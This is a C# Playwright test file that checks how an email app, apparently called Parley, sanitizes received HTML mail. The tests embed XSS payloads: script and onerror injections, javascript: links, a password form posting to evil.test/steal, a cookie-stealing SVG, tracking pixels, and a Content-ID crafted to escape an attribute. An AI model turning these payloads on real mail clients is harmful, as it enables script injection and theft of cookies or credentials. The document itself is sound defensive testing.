using System.Collections.Concurrent;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using MimeKit;
using Parley.Core.Data;

namespace Parley.EndToEnd.Tests;

/// <summary>
/// How a received HTML email looks in a contact's chatter, in a real browser after a real SMTP delivery:
/// hostile markup is inert, remote images wait for the reader's consent, cid: images and downloads
/// come from Parley itself, safely and only for a signed-in user.
/// </summary>
[Collection(BrowserFixture.Collection)]
public sealed class ReceivedHtmlDisplayTests(BrowserFixture browser, ReceivedEmailFixture fixture) : IClassFixture<ReceivedEmailFixture>
{
    // A 48×48 orange square, the "logo" a customer's mail carries as an inline part.
    private static readonly byte[] Logo = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAADAAAAAwCAIAAADYYG7QAAAAOklEQVR42u3OQQ0AAAgEoOtjQ5vaxhbOBxsByHS9EiEhISEhISEhISEhISEhISEhISEhISEhISGhOws8kG7EberwPAAAAABJRU5ErkJggg==");
    private static readonly byte[] Gif = Convert.FromBase64String("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==");

    private ParleyHost Parley => fixture.Parley;

    [Fact]
    public async Task Scripts_handlers_javascript_links_styles_frames_and_forms_do_not_survive_but_text_and_formatting_do()
    {
        var (contact, id) = await fixture.ReceiveAsync(Html("hostile@customer.test", "Order details", """
            <p>Hello <b>team</b>, <i>here</i> is the <a href="https://customer.test/order">order</a>.</p>
            <ul><li>Two loaves</li></ul>
            <script>window.pwned = 'script';</script>
            <img src="nothing.png" onerror="window.pwned = 'onerror'" alt="broken">
            <a href="javascript:window.pwned = 'link'">click me</a>
            <style>p { width: expression(alert(1)); } @import url(https://evil.test/import.css);</style>
            <iframe src="https://evil.test/frame"></iframe>
            <form action="https://evil.test/steal" method="post"><input name="password"><button>Log in</button></form>
            <div style="background-image: url(https://evil.test/style.png)">Styled words</div>
            """));

        var (page, fetchedElsewhere) = await OpenAsync();
        await page.GotoAsync($"/contacts/{contact}");
        var body = page.Locator($"#m-{id} .body.html");
        await Assertions.Expect(body).ToContainTextAsync("Two loaves");
        var html = await body.InnerHTMLAsync();

        foreach (var hostile in new[] { "<script", "pwned", "onerror", "javascript:", "<style", "expression(", "@import", "<iframe", "<form", "<input", "<button", "evil.test" })
        {
            Assert.DoesNotContain(hostile, html, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("<b>team</b>", html);
        Assert.Contains("<i>here</i>", html);
        Assert.Contains("<li>Two loaves</li>", html);
        Assert.Contains("Styled words", html);
        await Assertions.Expect(body.Locator("a", new() { HasText = "order" })).ToHaveAttributeAsync("href", "https://customer.test/order");
        await Assertions.Expect(body.Locator("a", new() { HasText = "click me" })).Not.ToHaveAttributeAsync("href", new System.Text.RegularExpressions.Regex("."));
        await page.ClickAsync("text=click me");
        Assert.Null(await page.EvaluateAsync<string?>("() => window.pwned ?? null"));
        Assert.Empty(fetchedElsewhere);
    }

    [Fact]
    public async Task Remote_images_stay_hidden_behind_a_notice_until_the_reader_shows_them()
    {
        var message = Html("menu@bakery.test", "Our new menu", """
            <p>Dear customer, here is <b>our new menu</b>.</p>
            <p><img src="cid:logo@bakery.test" alt="Lima Bakery logo"></p>
            <img src="https://tracker.test/open.gif?u=ana" width="1" height="1" alt="">
            <img srcset="https://cdn.tracker.test/menu.png 1x, https://cdn.tracker.test/menu@2x.png 2x" alt="Menu picture">
            <img src="//tracker.test/no-scheme.gif" alt="">
            <table background="https://tracker.test/paper.png"><tr><td>Fresh bread every morning</td></tr></table>
            """, withLogo: true);
        var (contact, id) = await fixture.ReceiveAsync(message);

        var (page, fetchedElsewhere) = await OpenAsync();
        await page.GotoAsync($"/contacts/{contact}");
        var entry = page.Locator($"#m-{id}");
        var notice = entry.Locator(".remote-notice");
        await Assertions.Expect(notice).ToContainTextAsync("Remote images are hidden to protect your privacy.");
        await Assertions.Expect(entry.Locator(".body.html")).ToContainTextAsync("Fresh bread every morning");
        var logo = entry.Locator("img[alt='Lima Bakery logo']");
        await Assertions.Expect(logo).ToHaveJSPropertyAsync("naturalWidth", 48); // the message's own image still shows
        await BrowserFixture.ScreenshotAsync(page, "chatter-remote-images-hidden");

        var hidden = await entry.Locator(".body.html").InnerHTMLAsync();
        Assert.DoesNotContain("tracker.test", hidden);
        Assert.DoesNotContain("http", hidden);
        Assert.Empty(fetchedElsewhere);

        await notice.GetByRole(AriaRole.Link, new() { Name = "Show them" }).ClickAsync();
        await page.WaitForURLAsync(url => url.Contains($"/contacts/{contact}?images={id}"));
        await Assertions.Expect(entry.Locator("img[src='https://tracker.test/open.gif?u=ana']")).ToHaveCountAsync(1);
        await Assertions.Expect(entry.Locator("img[src='//tracker.test/no-scheme.gif']")).ToHaveCountAsync(1);
        await Assertions.Expect(entry.Locator(".remote-notice")).ToHaveCountAsync(0);
        await Assertions.Expect(logo).ToHaveJSPropertyAsync("naturalWidth", 48);
        await BrowserFixture.ScreenshotAsync(page, "chatter-remote-images-shown");

        // The timeline redraws itself when something happens; the reader's choice survives it.
        await Parley.PostAsync($"/api/v1/records/contact/{contact}/messages", new { kind = "note", body = "Menu checked." });
        await Assertions.Expect(page.Locator(".entry.note")).ToContainTextAsync("Menu checked.");
        await Assertions.Expect(entry.Locator("img[src='https://tracker.test/open.gif?u=ana']")).ToHaveCountAsync(1);
        Assert.Contains(fetchedElsewhere, url => url.StartsWith("https://tracker.test/open.gif"));
        Assert.Empty(_referersElsewhere); // the tracker learns nothing about the Parley page it was opened from
    }

    [Fact]
    public async Task A_cid_image_points_at_its_attachment_and_files_download_as_attachments_only_when_signed_in()
    {
        var invoice = Encoding.UTF8.GetBytes("<html><body><script>parent.document.title = 'pwned'</script>Invoice</body></html>");
        var drawing = Encoding.UTF8.GetBytes("""<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script><circle r="5"/></svg>""");
        var message = Html("files@bakery.test", "Invoice and drawing", """<p>Logo: <img src="cid:logo@bakery.test" alt="Lima Bakery logo"></p>""", withLogo: true,
            attachments: [("invoice.html", "text/html", invoice), ("drawing.svg", "image/svg+xml", drawing)]);
        var (contact, id) = await fixture.ReceiveAsync(message);
        var files = await FilesOfAsync(id);
        var logoFile = files.Single(f => f.ContentId == "logo@bakery.test");
        var invoiceFile = files.Single(f => f.FileName == "invoice.html");
        var drawingFile = files.Single(f => f.FileName == "drawing.svg");

        var (page, _) = await OpenAsync();
        await page.GotoAsync($"/contacts/{contact}");
        var entry = page.Locator($"#m-{id}");
        var logo = entry.Locator("img[alt='Lima Bakery logo']");
        await Assertions.Expect(logo).ToHaveAttributeAsync("src", Core.Chatter.ReceivedHtml.InlineUrl(id, logoFile.PartIndex));
        await Assertions.Expect(logo).ToHaveJSPropertyAsync("naturalWidth", 48);
        await Assertions.Expect(entry.Locator(".attachments a[download]")).ToHaveTextAsync(["invoice.html", "drawing.svg"]);

        // Signed in (the page's cookie): the stored bytes, never rendered by the browser in Parley's origin.
        foreach (var url in new[] { $"/attachments/{logoFile.Id}?inline=true", Core.Chatter.ReceivedHtml.InlineUrl(id, logoFile.PartIndex) })
        {
            var inlineLogo = await page.APIRequest.GetAsync(url);
            Assert.Equal(200, inlineLogo.Status);
            Assert.Equal("image/png", inlineLogo.Headers["content-type"]);
            Assert.Equal("nosniff", inlineLogo.Headers["x-content-type-options"]);
            Assert.Contains("sandbox", inlineLogo.Headers["content-security-policy"]);
            Assert.Equal(Logo, await inlineLogo.BodyAsync());
        }
        foreach (var (file, bytes) in new[] { (invoiceFile, invoice), (drawingFile, drawing) })
        {
            foreach (var query in new[] { "", "?inline=true" })
            {
                var download = await page.APIRequest.GetAsync($"/attachments/{file.Id}{query}");
                Assert.Equal(200, download.Status);
                Assert.Equal(bytes, await download.BodyAsync());
                Assert.StartsWith("attachment;", download.Headers["content-disposition"]);
                Assert.Contains(file.FileName, download.Headers["content-disposition"]);
                Assert.Equal("application/octet-stream", download.Headers["content-type"]);
                Assert.Equal("nosniff", download.Headers["x-content-type-options"]);
                Assert.Contains("sandbox", download.Headers["content-security-policy"]);
            }
        }

        // Not signed in: no bytes, only a challenge or the way to the login page.
        using var anonymous = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = Parley.BaseUrl };
        foreach (var (file, url) in new[] { logoFile, invoiceFile, drawingFile }.Select(f => (f, $"/attachments/{f.Id}?inline=true"))
                     .Append((logoFile, Core.Chatter.ReceivedHtml.InlineUrl(id, logoFile.PartIndex))))
        {
            using var refused = await anonymous.GetAsync(url);
            var status = (int)refused.StatusCode;
            Assert.True(status == 401 || (status == 302 && refused.Headers.Location!.ToString().Contains("/login")), $"{file.FileName}: {status}");
            Assert.DoesNotContain("<script", await refused.Content.ReadAsStringAsync());
        }
    }

    [Fact]
    public async Task A_content_id_chosen_to_close_the_src_attribute_runs_no_script_and_every_page_carries_the_csp()
    {
        // The security review's attack: Content-ID <Q.">ZZ"> and an HTML part whose text after the <img> became an
        // onerror attribute when cid: was replaced on the serialized HTML. The part is not an image, so the img fails to load.
        const string contentId = "Q.\">ZZ\"";
        var builder = new BodyBuilder
        {
            HtmlBody = "<p>Please see below.</p><img src=\"cid:Q.\">ZZ\"\">/onerror=window.pwned=document.cookie//<p>Regards</p>",
            TextBody = "Please see below.",
        };
        var part = builder.LinkedResources.Add("x.bin", Encoding.ASCII.GetBytes("not an image"), ContentType.Parse("application/octet-stream"));
        part.Headers.Replace(HeaderId.ContentId, "<" + contentId + ">");
        var message = new MimeMessage { Subject = "Your invoice", Body = builder.ToMessageBody() };
        message.From.Add(MailboxAddress.Parse("attacker@stranger.test"));
        var (contact, id) = await fixture.ReceiveAsync(message);
        Assert.Contains(await FilesOfAsync(id), f => f.ContentId == contentId); // the Content-ID arrived as the attacker wrote it

        var (page, _) = await OpenAsync();
        var violations = new ConcurrentQueue<string>();
        page.Console += (_, m) => { if (m.Text.Contains("Content Security Policy", StringComparison.OrdinalIgnoreCase)) { violations.Enqueue(page.Url + ": " + m.Text); } };
        var response = await page.GotoAsync($"/contacts/{contact}");
        await Assertions.Expect(page.Locator($"#m-{id} .body.html")).ToContainTextAsync("Regards");
        await page.WaitForLoadStateAsync(LoadState.NetworkIdle);

        Assert.Null(await page.EvaluateAsync<string?>("() => window.pwned ?? null"));
        Assert.Equal(0, await page.Locator($"#m-{id} [onerror], #m-{id} [onload]").CountAsync());
        await BrowserFixture.ScreenshotAsync(page, "chatter-hostile-content-id");
        var csp = response!.Headers["content-security-policy"];
        foreach (var directive in new[] { "default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'" })
        {
            Assert.Contains(directive, csp);
        }

        Assert.DoesNotContain("unsafe-inline", csp);
        Assert.Equal("nosniff", response.Headers["x-content-type-options"]);

        // Parley's own pages keep working under that policy: no inline script or handler is blocked on any of them.
        foreach (var path in new[] { "/contacts", "/templates", "/templates/edit", "/outbox", "/outbox/suppressed", "/inbound", "/inbound/rules",
                     "/inbound/aliases", "/inbound/mailboxes", "/domains", "/settings", "/settings/tokens", "/account" })
        {
            var each = await page.GotoAsync(path);
            Assert.True(each!.Ok, $"{path}: {each.Status}");
            Assert.Equal(SecurityHeadersPolicy, each.Headers["content-security-policy"]);
            Assert.Equal("nosniff", each.Headers["x-content-type-options"]);
            Assert.Equal(0, await page.Locator("script:not([src]), [onclick], [onsubmit], [onchange], [onload]").CountAsync());
            if (path == "/inbound/rules")
            {
                await BrowserFixture.ScreenshotAsync(page, "inbound-rules");
            }
        }
        Assert.True(violations.IsEmpty, string.Join("\n", violations));
    }

    private static string SecurityHeadersPolicy => global::Parley.Hosting.SecurityHeaders.ContentSecurityPolicy;

    [Fact]
    public async Task Fifty_thousand_nested_elements_are_shown_as_text_at_once_instead_of_stalling_every_view()
    {
        var html = new StringBuilder().Insert(0, "<div>", 50_000).Append("Deeply nested offer").ToString();
        var (contact, id) = await fixture.ReceiveAsync(Html("nested@stranger.test", "Nested offer", html));

        var (page, _) = await OpenAsync();
        var watch = System.Diagnostics.Stopwatch.StartNew();
        await page.GotoAsync($"/contacts/{contact}");
        var entry = page.Locator($"#m-{id}");
        await Assertions.Expect(entry.Locator(".remote-notice")).ToContainTextAsync("nests more than 256 elements deep, so Parley shows its text instead");
        await Assertions.Expect(entry.Locator(".body.text")).ToContainTextAsync("See the HTML version.");
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"the page took {watch.Elapsed}");
        await BrowserFixture.ScreenshotAsync(page, "chatter-html-withheld");
        Assert.Equal(0, await entry.Locator(".body.html").CountAsync());
    }

    private static MimeMessage Html(string from, string subject, string html, bool withLogo = false,
        (string Name, string Type, byte[] Bytes)[]? attachments = null)
    {
        var builder = new BodyBuilder { HtmlBody = html, TextBody = "See the HTML version." };
        if (withLogo)
        {
            builder.LinkedResources.Add("logo.png", Logo, ContentType.Parse("image/png")).ContentId = "logo@bakery.test";
        }

        foreach (var (name, type, bytes) in attachments ?? [])
        {
            builder.Attachments.Add(name, bytes, ContentType.Parse(type));
        }

        var message = new MimeMessage { Subject = subject, Body = builder.ToMessageBody() };
        message.From.Add(MailboxAddress.Parse(from));
        return message;
    }

    /// <summary>Referer headers sent with requests to anywhere but Parley (Parley's Referrer-Policy should leave none).</summary>
    private readonly ConcurrentQueue<string> _referersElsewhere = new();

    /// <summary>A signed-in page whose requests to anywhere but Parley are answered by the test (with a GIF) and listed.</summary>
    private async Task<(IPage Page, ConcurrentQueue<string> FetchedElsewhere)> OpenAsync()
    {
        var page = await browser.SignedInPageAsync(Parley);
        var elsewhere = new ConcurrentQueue<string>();
        var parley = Parley.BaseUrl.GetLeftPart(UriPartial.Authority);
        await page.RouteAsync(url => !url.StartsWith(parley, StringComparison.Ordinal), async route =>
        {
            elsewhere.Enqueue(route.Request.Url);
            if (route.Request.Headers.TryGetValue("referer", out var referer))
            {
                _referersElsewhere.Enqueue(referer);
            }

            await route.FulfillAsync(new() { Status = 200, ContentType = "image/gif", BodyBytes = Gif });
        });
        return (page, elsewhere);
    }

    private async Task<List<Core.Attachments.MessageAttachment>> FilesOfAsync(long chatterMessageId)
    {
        await using var scope = Parley.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<ParleyDbContext>();
        return await db.Attachments.AsNoTracking().Where(a => a.ChatterMessageId == chatterMessageId).ToListAsync();
    }
}
